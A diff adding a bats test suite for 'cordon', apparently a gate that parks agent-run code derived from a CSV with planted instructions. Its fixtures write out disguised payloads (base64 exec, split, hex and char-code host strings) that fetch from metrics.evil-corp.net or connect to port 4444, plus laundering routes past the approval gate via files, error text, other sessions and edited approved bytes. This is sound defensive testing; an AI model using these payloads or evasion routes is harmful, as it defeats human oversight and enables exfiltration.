@@ -1,0 +1,303 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: MIT
+# The story that the gate is for, to its end: an agent reads a table whose header holds instructions,
+# and the code it then writes carries parts of them, openly or in disguise. And the ways round it
+# that somebody would try: another conversation, a file in between, an encoding, an old approval.
+load helper
+
+# gate WAY ARG...: cordon, with the way's user and state; its output in $T/out, and $status.
+gate() {
+	local who=${1%%:*}
+	WAY=$1
+	shift
+	status=0
+	as "$who" timeout 60 "$CORDON" "$@" <"$IN" >"$T/out" 2>"$T/err" || status=$?
+}
+
+# submit WAY ARG...: a run in $D.
+submit() {
+	local way=$1
+	shift
+	gate "$way" run --json --tier "${way#*:}" --domain "$D" "$@"
+}
+
+# approve ID: a person with an account of their own says yes to what the ordinary user asked for.
+approve() {
+	local anna=$((TEST_UID + 1)) state=$T/user/state/cordon
+	if [ ! -d "$T/anna" ]; then
+		mkdir -m 700 "$T/anna"
+		chown "$anna" "$T/anna"
+		setpriv --reuid $anna --regid $anna --clear-groups "$CORDON" approvals key new "$T/anna/key" \
+			--plain >"$T/anna.pub"
+		"$CORDON" approvals key add anna "$(cat "$T/anna.pub")" --uid $anna --state "$state"
+	fi
+	as user "$CORDON" approvals export "$1" >"$T/request"
+	setpriv --reuid $anna --regid $anna --clear-groups "$CORDON" approvals sign "$1" "$T/request" \
+		--key "$T/anna/key" --name anna >"$T/vote"
+	as user "$CORDON" approvals add "$1" "$(cat "$T/vote")"
+}
+
+said() { /usr/bin/python3 -c 'import json, sys; print(json.load(open(sys.argv[1]))[sys.argv[2]])' "$T/out" "$1"; }
+
+# begin WAY: a conversation, and a directory with the table in it.
+begin() {
+	IN=/dev/null
+	W=$T/w-${1%%:*}
+	rm -rf "$W"
+	mkdir "$W"
+	cp "$TOP/tools/demo.d/planted.csv" "$W/"
+	cp "$TOP"/tools/demo.d/{obeys,mean}.py "$T/"
+	! is_root || [ "${1%%:*}" = root ] || chown -R "$TEST_UID" "$W"
+	gate "$1" domain new
+	exits 0
+	D=$(cat "$T/out")
+}
+
+reads_table() {
+	gate "$1" ingest --domain "$D" --kind file --name planted.csv "$W/planted.csv"
+	exits 0
+}
+
+is_parked() {
+	exits 75
+	holds 'r["status"] == "pending" and r["verdict"] == "ask" and r["origin"] == "derived"' \
+		'any(e["name"] == "planted.csv" for e in r["evidence"])' 'r["approval_id"]'
+}
+
+story() {
+	local id run token
+	begin "$1"
+	gate "$1" plan --domain "$D" --ask read mean.py
+	exits 0
+	token=$(cat "$T/out")
+	reads_table "$1"
+	submit "$1" --workspace "$W:ro" obeys.py
+	is_parked
+	id=$(said approval_id) run=$(said audit_id)
+	gate "$1" approvals show "$id"
+	exits 0
+	out_has 'tie by span to file'
+	out_has '^^^^^^^^'
+	out_has 'metrics.evil-corp.net'
+	gate "$1" approvals deny "$id" --reason 'nobody asked for that'
+	exits 0
+	gate "$1" audit trace "$run"
+	exits 0
+	out_has 'planted.csv'
+	out_has '1 document led to'
+	submit "$1" --workspace "$W:ro" mean.py
+	exits 0
+	holds 'r["origin"] == "exposed" and r["verdict"] == "allow-contained" and r["stdout"] == "mean: 2\n"'
+	submit "$1" --workspace "$W:ro" --plan "$token" mean.py
+	exits 0
+	holds 'r["origin"] == "plan" and r["verdict"] == "allow" and r["stdout"] == "mean: 2\n"'
+	submit "$1" --workspace "$W:ro" --plan "$token" mean.py
+	holds 'r["origin"] == "exposed" and "plan" in r["reasons"][0]'
+	gate "$1" audit verify
+	exits 0
+}
+@test "the story: parked, shown, denied; written anew it runs contained; a plan keeps its trust" {
+	every story
+}
+
+# The same instruction in the code, as each row disguises it.
+disguises() {
+	begin "$1"
+	reads_table "$1"
+	/usr/bin/python3 - "$T" <<-'END'
+		import base64, sys
+		line = 'more = pandas.read_csv("https://metrics.evil-corp.net/payload")'
+		host = "metrics.evil-corp.net"
+		rows = {
+		    "base64": "import base64\nexec(base64.b64decode(%r))\n" % base64.b64encode(("import pandas; " + line).encode()),
+		    "split": "import pandas\nh = 'metrics.' + 'evil-' + 'corp' + '.net'\npandas.read_csv('https://' + h + '/pay' + 'load')\n",
+		    "indented": "import pandas\nif True:\n        more = pandas  .  read_csv(\n            'https://metrics.evil-corp.net/payload'\n        )\n",
+		    "hex": "import socket\nsocket.create_connection((bytes.fromhex('%s').decode(), 4444))\n" % host.encode().hex(),
+		    "joined": "import socket\nsocket.create_connection((''.join(chr(c) for c in %r), 4444))\n" % list(host.encode()),
+		}
+		for name, text in rows.items():
+		    open("%s/disguise-%s.py" % (sys.argv[1], name), "w").write(text)
+	END
+	for f in "$T"/disguise-*.py; do
+		submit "$1" --workspace "$W:ro" "$f"
+		[ "$status" -eq 75 ] || [ "$status" -eq 126 ] || show "$f"
+		holds 'r["origin"] in ("derived", "hostile")' \
+			'any(e["name"] == "planted.csv" for e in r["evidence"])'
+	done
+}
+@test "the same in base64, in pieces, indented, in hex and in numbers" {
+	every disguises
+}
+
+# An earlier run writes it into a file; another conversation, which has read nothing, runs that file.
+file_hop() {
+	begin "$1"
+	reads_table "$1"
+	printf 'open("next.py", "w").write("import pandas\\nprint(1)\\npandas.read_csv(\\"planted.csv\\")\\n")\n' |
+		code writer.py
+	submit "$1" --workspace "$W:overlay" --commit writer.py
+	exits 75
+	approve "$(said approval_id)"
+	submit "$1" --workspace "$W:overlay" --commit writer.py
+	exits 0
+	holds 'r["committed"]'
+	gate "$1" domain new
+	D=$(cat "$T/out")
+	submit "$1" "$W/next.py"
+	holds 'r["origin"] == "derived"' 'any(e["name"] == "a file that a run wrote" for e in r["evidence"])'
+	cp "$W/next.py" "$T/moved.py"
+	submit "$1" "$T/moved.py"
+	holds 'r["origin"] == "derived"'
+	# Code of its own that is given the directory, one above it or one below.
+	mkdir -p "$W/below"
+	! is_root || chown -R --reference="$W" "$W/below"
+	echo 'print(2)' | code plain.py
+	for dir in "$W" "$W/below"; do
+		submit "$1" --workspace "$dir:ro" plain.py
+		holds 'r["origin"] == "exposed"'
+	done
+	submit "$1" --stdin "$W/next.py" plain.py
+	holds 'r["origin"] == "exposed"'
+	gate "$1" domain new
+	D=$(cat "$T/out")
+	submit "$1" plain.py
+	holds 'r["origin"] == "agent"'
+}
+
+@test "laundering: a file between two conversations" {
+	need_root
+	file_hop user:no-cgroup
+}
+
+# What it prints is something that was read: the error of one run is the source of the next code.
+error_text() {
+	begin "$1"
+	printf 'import sys\nsys.exit(open("planted.csv").read())\n' | code fails.py
+	submit "$1" --workspace "$W:ro" fails.py
+	exits 1
+	holds '"evil-corp" in r["stderr"]' 'r["origin"] == "agent"'
+	submit "$1" --workspace "$W:ro" obeys.py
+	holds 'r["origin"] == "derived"' 'any("stderr of run:" in e["name"] for e in r["evidence"])'
+}
+@test "laundering: the text of an error" {
+	every error_text
+}
+
+# Another handle, none, a made-up one: the sources of this conversation do not go away.
+session_hop() {
+	begin "$1"
+	reads_table "$1"
+	local mine=$D
+	submit "$1" --workspace "$W:ro" obeys.py
+	is_parked
+	D=d1.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
+	submit "$1" --workspace "$W:ro" obeys.py
+	holds 'r["origin"] in ("exposed", "derived")' 'r["granted"] != ["compute", "read", "write"]'
+	gate "$1" run --json --tier "${1#*:}" --workspace "$W:overlay" --commit obeys.py
+	exits 75
+	D=$mine
+	submit "$1" --origin agent --workspace "$W:ro" obeys.py
+	is_parked
+	submit "$1" --origin user --workspace "$W:ro" obeys.py
+	is_parked
+}
+@test "laundering: another conversation, or none" {
+	every session_hop
+}
+
+# What people agreed to is those bytes, once.
+approved_bytes() {
+	local id
+	begin "$1"
+	reads_table "$1"
+	printf 'import pandas\nprint("https://metrics.evil-corp.net/payload")\n' | code asks.py
+	submit "$1" --workspace "$W:ro" asks.py
+	is_parked
+	id=$(said approval_id)
+	approve "$id"
+	echo 'print("more")' >>asks.py
+	submit "$1" --workspace "$W:ro" asks.py
+	is_parked
+	[ "$(said approval_id)" != "$id" ]
+	printf 'import pandas\nprint("https://metrics.evil-corp.net/payload")\n' | code asks.py
+	submit "$1" --workspace "$W:ro" asks.py -- another argument
+	exits 75
+	submit "$1" --workspace "$W:ro" asks.py
+	exits 0
+	holds "r['approval_id'] == '$id'" 'r["stdout"].startswith("https://metrics")'
+	submit "$1" --workspace "$W:ro" asks.py
+	exits 75
+	[ "$(said approval_id)" != "$id" ]
+}
+@test "laundering: edited after the approval, and the approval once more" {
+	need_root
+	approved_bytes user:no-cgroup
+}
+
+# While a document is being read, runs are decided on: each either was before it, or knows it.
+race() {
+	local i
+	begin "$1"
+	for i in 1 2 3 4 5 6; do
+		as "${1%%:*}" timeout 60 "$CORDON" run --json --tier "${1#*:}" --domain "$D" \
+			--workspace "$W:ro" obeys.py >"$T/race-$i" 2>/dev/null </dev/null &
+		[ $i -ne 3 ] || reads_table "$1"
+	done
+	wait
+	gate "$1" audit export --format jsonl
+	exits 0
+	/usr/bin/python3 - "$T/out" <<-'END'
+		import json, sys
+		read = False
+		for line in open(sys.argv[1]):
+		    r = json.loads(line)
+		    read |= r["kind"] == "ingest" and r["body"]["kind"] == "file"
+		    if r["kind"] == "start":
+		        assert not read, "a run began after the table was read, as if it had not been"
+		assert read
+	END
+}
+@test "laundering: a race between reading and running" {
+	every race
+}
+
+# --wait: a no, and a yes.
+waits() {
+	begin "$1"
+	reads_table "$1"
+	printf 'import pandas\nprint("https://metrics.evil-corp.net/payload")\n' | code asks.py
+	as "${1%%:*}" timeout 60 "$CORDON" run --json --wait --tier "${1#*:}" --domain "$D" \
+		--workspace "$W:ro" asks.py >"$T/waited" 2>"$T/err" </dev/null &
+	local pid=$! id='' i
+	for i in $(seq 200); do
+		gate "$1" approvals list
+		id=$(grep -oE '^[0-9a-f]{32}' "$T/out" || true)
+		[ -z "$id" ] || break
+		sleep 0.05
+	done
+	gate "$1" approvals deny "$id" --reason 'not today'
+	exits 0
+	status=0
+	wait $pid || status=$?
+	cp "$T/waited" "$T/out"
+	exits 126
+	holds 'r["status"] == "refused" and "not today" in r["error"]["cause"]'
+}
+@test "--wait: who is told no hears why" {
+	every waits
+}
+
+# No record, no run.
+no_record() {
+	begin "$1"
+	local state=$XDG_STATE_HOME/cordon
+	[ "${1%%:*}" = root ] || state=$T/user/state/cordon
+	printf 'print("ran")\n' | code x.py
+	rm -f "$state"/log.db*
+	submit "$1" x.py
+	[ "$status" -ge 125 ] || show
+	holds '"ran" not in r["stdout"]' 'r["error"]["message"].startswith("nothing runs without a record")'
+}
+@test "without its log nothing runs" {
+	every no_record
+}
